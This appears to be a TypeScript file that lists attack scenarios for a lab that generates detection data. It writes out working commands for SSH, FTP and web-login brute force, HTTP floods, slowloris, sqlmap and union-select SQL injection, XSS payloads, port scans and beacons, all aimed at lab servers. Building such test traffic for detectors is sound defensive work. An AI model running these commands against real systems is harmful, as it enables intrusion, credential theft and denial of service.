import { facts, flood, form, ftp, scan, slow, ssh } from './attackFacts';
import { far, lossy, servers, sshOptions } from './scenario';
import type { AttackFacts, Options, Scenario } from './scenario';

const { nginx, apache, app, plain } = servers;
const near = { delayMs: 4, jitterMs: 2, lossPercent: 0 };

const evil = (name: string, about: AttackFacts, command: string, options: Options = {}): Scenario => ({
  name,
  attack: about,
  commands: [command],
  seconds: 24,
  ...options,
});
const sqli = (tool: string, ip = app): AttackFacts => facts('sqli', 'sqli', tool, ip);
const xss = (tool: string, ip = app): AttackFacts => facts('xss', 'xss', tool, ip);
const loop = (one: string): string => `for i in $(seq 900); do ${one}; done`;
const python = (kind: string, seconds: number, seed: number, host: string, port = 80): string =>
  `exec /usr/bin/python3 $PROGRAMS/attack.py ${kind} ${seconds} ${seed} ${host} ${port}`;
const web = `http://${app}:8000`;
const slowly = (ip: string, words: string, port = 80): string => `slowhttptest ${words} -u http://${ip}:${port}/`;
const half = { seconds: 12 } as const;

/** More tools, and the same ones with other settings, servers and paths: what one program does must not stand for its kind. */
export const attackVariants: readonly Scenario[] = [
  evil('ssh_paramiko', ssh('paramiko script', nginx), python('ssh', 24, 1, nginx, 22)),
  evil('ssh_paramiko_dropbear_far', ssh('paramiko script', app), python('ssh', 24, 2, app, 22), { path: far }),
  evil('ssh_curl', ssh('curl sftp', nginx), loop(`curl -s -k -u root:word$RANDOM sftp://${nginx}/ -o /dev/null`)),
  evil('ssh_curl_far', ssh('curl sftp', nginx), loop(`curl -s -k -u root:word$RANDOM sftp://${nginx}/ -o /dev/null`), { path: near }), // prettier-ignore
  evil('ssh_lftp', ssh('lftp', app), loop(`lftp -u root,word$i -e 'set net:max-retries 1; set sftp:auto-confirm yes; ls; exit' sftp://${app} </dev/null`)), // prettier-ignore
  evil('ssh_script_dropbear', ssh('ssh guessing script', app), loop(`sshpass -p word$i ssh ${sshOptions} -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 root@${app} true`), { path: near }), // prettier-ignore
  evil('ssh_script_three', ssh('ssh guessing script', nginx), loop(`sshpass -p word$i ssh ${sshOptions} -o PreferredAuthentications=password -o NumberOfPasswordPrompts=3 root@${nginx} true`)), // prettier-ignore
  evil('ssh_hydra_lossy', ssh('hydra', nginx), `hydra -I -t 6 -L names.txt -P words.txt ${nginx} ssh`, { path: lossy }),
  evil('ssh_medusa_dropbear', ssh('medusa', app), `medusa -h ${app} -u root -P words.txt -M ssh -t 2`),
  evil('ssh_ncrack_far', ssh('ncrack', nginx), `ncrack -p 22 --user root -P words.txt ${nginx} -g cl=6,at=1`, {
    path: far,
  }),
  evil('ssh_patator_dropbear', ssh('patator', app), `patator ssh_login host=${app} user=root password=FILE0 0=words.txt -t 4 --max-retries=0`, { path: near }), // prettier-ignore
  evil('ftp_ftplib', ftp('ftplib script', nginx), python('ftp', 24, 3, nginx, 21)),
  evil('ftp_curl', ftp('curl', nginx), loop(`curl -s -u admin:word$i ftp://${nginx}/ -o /dev/null`), { path: near }),
  evil('form_ffuf', form('ffuf', app), `ffuf -s -t 4 -p 0.1 -w words.txt -X POST -d 'user=admin&password=FUZZ' -u ${web}/signin -fs 0`), // prettier-ignore
  evil(
    'form_wfuzz_far',
    form('wfuzz', app),
    `wfuzz -t 4 -z file,words.txt -d 'user=admin&password=FUZZ' ${web}/login`,
    {
      path: far,
    },
  ),
  evil('form_urllib', form('urllib script', app), python('form', 24, 4, app, 8000)),
  evil('form_requests', form('requests script', app), python('session', 24, 5, app, 8000), { path: near }),
  evil('form_curl', form('curl', app), loop(`curl -s -d user=admin -d password=word$RANDOM ${web}/login -o /dev/null`)),
  evil('basic_requests', form('requests script', nginx), python('basic', 24, 6, nginx)),
  evil('basic_nmap', form('nmap http-brute', nginx), `nmap -n -Pn -p 80 --script http-brute --script-args 'http-brute.path=/basic/,userdb=names.txt,passdb=words.txt' ${nginx}`), // prettier-ignore
  evil('basic_medusa_app', form('medusa', nginx), `medusa -h ${nginx} -u admin -P words.txt -M http -m DIR:/basic/ -t 3`, { path: far }), // prettier-ignore
  evil('flood_hulk_python', flood('hulk.py-like script', nginx), python('hulk', 12, 7, nginx), half),
  evil('flood_hulk_python_far', flood('hulk.py-like script', apache), python('hulk', 12, 8, apache), { ...half, path: far }), // prettier-ignore
  evil('flood_loic', flood('loic-like script', nginx), python('loic', 12, 9, nginx), half),
  evil('flood_loic_app', flood('loic-like script', app), python('loic', 12, 10, app, 8000), { ...half, path: near }),
  evil('flood_xerxes', flood('xerxes-like script', apache), python('xerxes', 20, 11, apache), { seconds: 20 }),
  evil('flood_xerxes_far', flood('xerxes-like script', nginx), python('xerxes', 20, 12, nginx), { path: far, seconds: 20 }), // prettier-ignore
  evil('flood_hey', flood('hey', nginx), `hey -z 8s -c 30 http://${nginx}/p3.html`, half),
  evil('flood_hey_closing', flood('hey', app), `hey -z 8s -c 20 -disable-keepalive ${web}/search?q=x`, { ...half, path: near }), // prettier-ignore
  evil('flood_h2load', flood('h2load', apache), `h2load --h1 -n 20000 -c 40 -D 7 http://${apache}/p1.html`, half),
  evil('flood_httperf', flood('httperf', nginx), `httperf --server ${nginx} --uri /p5.html --num-conns 4000 --rate 400 --timeout 5`, half), // prettier-ignore
  evil('flood_httperf_session', flood('httperf', apache), `httperf --server ${apache} --uri /p5.html --num-conns 400 --num-calls 60 --rate 40 --timeout 5`, half), // prettier-ignore
  evil('flood_wrk_far', flood('wrk', app), `wrk -t 2 -c 60 -d 8s ${web}/search?q=y`, { ...half, path: far }),
  evil('flood_siege_apache', flood('siege', apache), `siege -q -b -c 40 -t 9S http://${apache}/p7.html`, half),
  evil('slow_python', slow('slowloris.py-like script', nginx, 'slowloris'), python('slowheaders', 28, 13, nginx), { seconds: 28 }), // prettier-ignore
  evil('slow_python_app', slow('slowloris.py-like script', app, 'slowloris'), python('slowheaders', 28, 14, app, 8000), { seconds: 28, path: far }), // prettier-ignore
  evil('slow_pyloris', slow('pyloris-like script', nginx, 'slowloris'), python('pyloris', 24, 15, nginx)),
  evil('slow_pyloris_apache', slow('pyloris-like script', apache, 'slowloris'), python('pyloris', 24, 16, apache), { path: near }), // prettier-ignore
  evil('slow_rudy', slow('rudy-like script', app), python('rudy', 24, 17, app, 8000)),
  evil('slow_rudy_nginx', slow('rudy-like script', nginx), python('rudy', 24, 18, nginx), { path: far }),
  evil('slow_torshammer', slow('torshammer-like script', nginx), python('torshammer', 24, 19, nginx)),
  evil('slow_torshammer_apache', slow('torshammer-like script', apache), python('torshammer', 24, 20, apache), { path: near }), // prettier-ignore
  evil('slow_read_python', slow('slow read python script', nginx), python('slowread', 24, 21, nginx)),
  evil('slow_read_python_far', slow('slow read python script', apache), python('slowread', 24, 22, apache), { path: far }), // prettier-ignore
  evil('slow_headers_apache', slow('slowhttptest', apache, 'slowloris'), slowly(apache, '-H -c 100 -i 2 -r 40 -l 22 -x 40'), { path: near }), // prettier-ignore
  evil('slow_body_app', slow('slowhttptest', app), slowly(app, '-B -c 90 -i 1 -r 40 -l 22 -s 20000 -x 6', 8000)),
  evil('slow_read_apache', slow('slowhttptest', apache), `slowhttptest -X -c 70 -r 30 -l 22 -w 256 -y 512 -n 2 -z 64 -k 2 -u http://${apache}/f4000000.bin`, { path: near }), // prettier-ignore
  evil('sqli_urllib', sqli('urllib script'), python('sqli', 24, 23, app, 8000)),
  evil('sqli_requests', sqli('requests script'), python('sqlisession', 24, 24, app, 8000), { path: near }),
  evil('sqli_ffuf', sqli('ffuf'), `ffuf -s -t 3 -p 0.2 -w sqli.txt -u ${web}/item?id=FUZZ`),
  evil('sqli_wfuzz', sqli('wfuzz'), `wfuzz -t 3 -z file,sqli.txt ${web}/search?q=FUZZ`, { path: near }),
  evil('sqli_curl', sqli('curl'), loop(`curl -s -G --data-urlencode "id=$i' union select $RANDOM,user(),3-- " ${web}/item -o /dev/null; sleep 0.0$((RANDOM % 9))`)), // prettier-ignore
  evil('sqli_sqlmap_threads', sqli('sqlmap'), `sqlmap -u '${web}/item?id=3' --batch --flush-session --output-dir=sqlmap3 --keep-alive --level 3 --threads 4`), // prettier-ignore
  evil('sqli_sqlmap_time', sqli('sqlmap'), `sqlmap -u '${web}/search?q=3' --batch --flush-session --output-dir=sqlmap4 --technique=BT --time-sec=1 --random-agent`, { path: near }), // prettier-ignore
  evil('xss_urllib', xss('urllib script'), python('xss', 24, 25, app, 8000), { path: near }),
  evil('xss_requests', xss('requests script'), python('xsssession', 24, 26, app, 8000)),
  evil('xss_ffuf', xss('ffuf'), `ffuf -s -t 3 -p 0.2 -w xss.txt -u ${web}/search?q=FUZZ`, { path: near }),
  evil('xss_wfuzz', xss('wfuzz'), `wfuzz -t 3 -z file,xss.txt ${web}/search?q=FUZZ`),
  evil('xss_curl', xss('curl'), loop(`curl -s -G --data-urlencode "q=<script>alert($RANDOM)</script>" ${web}/search -o /dev/null; sleep 0.0$((RANDOM % 9))`), { path: near }), // prettier-ignore
  evil('scan_pnscan', scan('pnscan', nginx), `pnscan -n 30 ${nginx}:${nginx} 1:800`, half),
  evil('scan_python', scan('scan.py script', app), python('scan', 14, 27, app), { seconds: 14 }),
  evil('scan_python_far', scan('scan.py script', plain), python('scan', 14, 28, plain), { seconds: 14, path: far }),
  evil('scan_nmap_far', scan('nmap', nginx), `nmap -n -Pn -sS -T3 --top-ports 250 ${nginx}`, {
    seconds: 20,
    path: far,
  }),
  evil('scan_masscan_apache', scan('masscan', apache), `masscan -p 1-900 --rate 400 --wait 2 --interface eth0 --router-mac $SERVER_MAC ${apache}`, { seconds: 12 }), // prettier-ignore
  evil('beacon_python', facts('beacon', 'http', 'beacon.py script', app), python('beacon', 40, 29, app, 8000), { seconds: 40 }), // prettier-ignore
  evil('beacon_curl', facts('beacon', 'http', 'curl', app), loop(`curl -s -A 'Mozilla/4.0' -d id=$RANDOM$RANDOM$RANDOM ${web}/api?n=1 -o /dev/null; sleep 2`), { seconds: 40 }), // prettier-ignore
  evil('ssh_sftp', ssh('sftp script', nginx), loop(`sshpass -p word$i sftp ${sshOptions} -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 root@${nginx} </dev/null`)), // prettier-ignore
  evil('ssh_scp_dropbear', ssh('scp script', app), loop(`sshpass -p word$i scp -O ${sshOptions} -o PreferredAuthentications=password -o NumberOfPasswordPrompts=2 root@${app}:/etc/hostname got`), { path: near }), // prettier-ignore
  evil('ssh_rsync_far', ssh('rsync script', nginx), loop(`sshpass -p word$i rsync -e 'ssh ${sshOptions} -o PreferredAuthentications=password -o NumberOfPasswordPrompts=3' root@${nginx}:/etc/hostname got`), { path: far }), // prettier-ignore
  evil(
    'ftp_wget',
    ftp('wget', nginx),
    loop(`wget -q -t 1 -O /dev/null --user=backup --password=word$i ftp://${nginx}/`),
  ),
  evil('form_wget', form('wget', app), loop(`wget -q -t 1 -O /dev/null --post-data "user=admin&password=word$RANDOM" ${web}/login`), { path: near }), // prettier-ignore
  evil('basic_wget', form('wget', nginx), loop(`wget -q -t 1 -O /dev/null --auth-no-challenge --user=admin --password=word$RANDOM http://${nginx}/basic/`)), // prettier-ignore
  evil('sqli_wget', sqli('wget'), loop(`wget -q -t 1 -O /dev/null "${web}/item?id=$i'%20union%20select%20$RANDOM,user(),3--%20"; sleep 0.0$((RANDOM % 9))`)), // prettier-ignore
  evil('xss_wget', xss('wget'), loop(`wget -q -t 1 -O /dev/null "${web}/search?q=%3Cscript%3Ealert($RANDOM)%3C/script%3E"; sleep 0.0$((RANDOM % 9))`), { path: near }), // prettier-ignore
  evil('flood_wget', flood('wget', nginx), `for n in $(seq 12); do (${loop(`wget -q -t 1 -O /dev/null "http://${nginx}/p3.html?$RANDOM"`)}) & done; wait`, half), // prettier-ignore
  evil('flood_wget_app', flood('wget', app), `for n in $(seq 12); do (${loop(`wget -q -t 1 -O /dev/null "${web}/search?q=$RANDOM"`)}) & done; wait`, { ...half, path: near }), // prettier-ignore
  evil('flood_loic_apache', flood('loic-like script', apache), python('loic', 12, 31, apache), { ...half, path: far }),
];
